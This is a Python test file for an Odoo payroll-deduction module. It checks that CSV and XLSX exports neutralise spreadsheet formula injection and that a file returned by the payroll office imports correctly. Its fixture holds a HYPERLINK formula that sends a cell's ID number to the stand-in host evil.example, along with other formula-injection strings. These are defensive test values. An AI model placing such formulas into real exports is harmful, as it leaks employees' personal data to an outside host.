import csv
import io
from datetime import date

import openpyxl

from odoo.tests import tagged

from ..tools import spreadsheet
from .common import DeductionCommon, fnr

MARCH = date(2026, 3, 1)
HYPERLINK = '=HYPERLINK("https://evil.example/?n="&B2,"Open")'


@tagged("post_install", "-at_install")
class TestDeductionExportFormulas(DeductionCommon):
    """The files sent to employers hold what members and staff typed (names, employee
    numbers): no cell of them is a formula when the payroll office opens the file, amounts
    stay numbers, and the file sent back is read as it was meant."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.evil = cls._person(HYPERLINK, national_id=fnr(2, 2, 1982, 322))
        cls._member(cls.evil, cls.period_2026)
        cls._employ(cls.evil, 20000, "@SUM(1+1)")  # 310

    def _march(self):
        run = self._run(MARCH)
        run.action_compute()
        return self._list(run).with_user(self.treasurer)

    def test_csv_cells_of_members_are_text(self):
        _name, content = self._march()._export_file("csv")
        rows = {row[0]: row for row in self._csv_rows(content)[1:]}
        self.assertNotIn(HYPERLINK, rows)
        row = rows["'" + HYPERLINK]
        self.assertEqual(row[1:5], [self.evil.national_id, "'@SUM(1+1)", "2026-03", "310,00"])
        self.assertEqual(rows["Anna Aas"][:3], ["Anna Aas", self.anna.national_id, "E-1"])

    def test_xlsx_cells_of_members_are_text_amounts_numbers(self):
        _name, content = self._march()._export_file("xlsx")
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
            row = next(row for row in sheet.iter_rows() if "HYPERLINK" in str(row[0].value))
            self.assertEqual(row[0].value, "'" + HYPERLINK)
            self.assertEqual(row[2].value, "'@SUM(1+1)")
            self.assertEqual((row[4].data_type, row[4].value), ("n", 310))

    def test_what_starts_a_formula_and_what_does_not(self):
        dangerous = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1"]
        harmless = ["Anna Aas", "E-1", "1-2", "O'Neil", ""]
        rows = [[text] for text in dangerous + harmless] + [[-12.5], [0.0]]
        content = spreadsheet.write_csv(["Cell"], rows, 2)
        cells = [row[0] for row in self._csv_rows(content)[1:]]
        self.assertEqual(
            cells,
            ["'" + text for text in dangerous] + harmless + ["-12,50", "0,00"],
            "a negative amount is a number, not neutralised",
        )
        content = spreadsheet.write_xlsx([("Sheet", ["Cell"], rows)], None)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        # (XLSX keeps a carriage return as "_x000D_")
        values = [
            (cell.data_type, cell.value and str(cell.value).replace("_x000D_", "\r"))
            for (cell,) in sheet.iter_rows(min_row=2)
        ]
        self.assertEqual(values[: len(dangerous)], [("s", "'" + text) for text in dangerous])
        self.assertEqual([cell.value for (cell,) in sheet.iter_rows(min_row=2)][-2:], [-12.5, 0])
        self.assertEqual([kind for kind, _value in values[-2:]], ["n", "n"])
        for text in dangerous + harmless:
            self.assertEqual(spreadsheet.unneutralise(spreadsheet.neutralise(text)), text)
        self.assertEqual(spreadsheet.unneutralise("'quoted"), "'quoted")

    def test_list_returned_as_sent_matches_the_members(self):
        run = self._confirm(self._run(MARCH))
        deduction_list = self._list(run)
        self._pay(deduction_list.invoice_id, deduction_list.amount_total)
        _name, content = deduction_list.with_user(self.treasurer)._export_file("csv")
        # the payroll office sends our file back, without identity numbers
        rows = self._csv_rows(content)
        for row in rows[1:]:
            row[1] = ""
        out = io.StringIO()
        csv.writer(out, delimiter=";").writerows(rows)
        imported = self._import(deduction_list, "returned.csv", out.getvalue().encode())
        imported.action_import()
        evil = imported.line_ids.filtered(lambda line: line.partner_id == self.evil)
        self.assertEqual((evil.status, evil.employee_number), ("ok", "@SUM(1+1)"))
        self.assertEqual(imported.difference_count, 0)
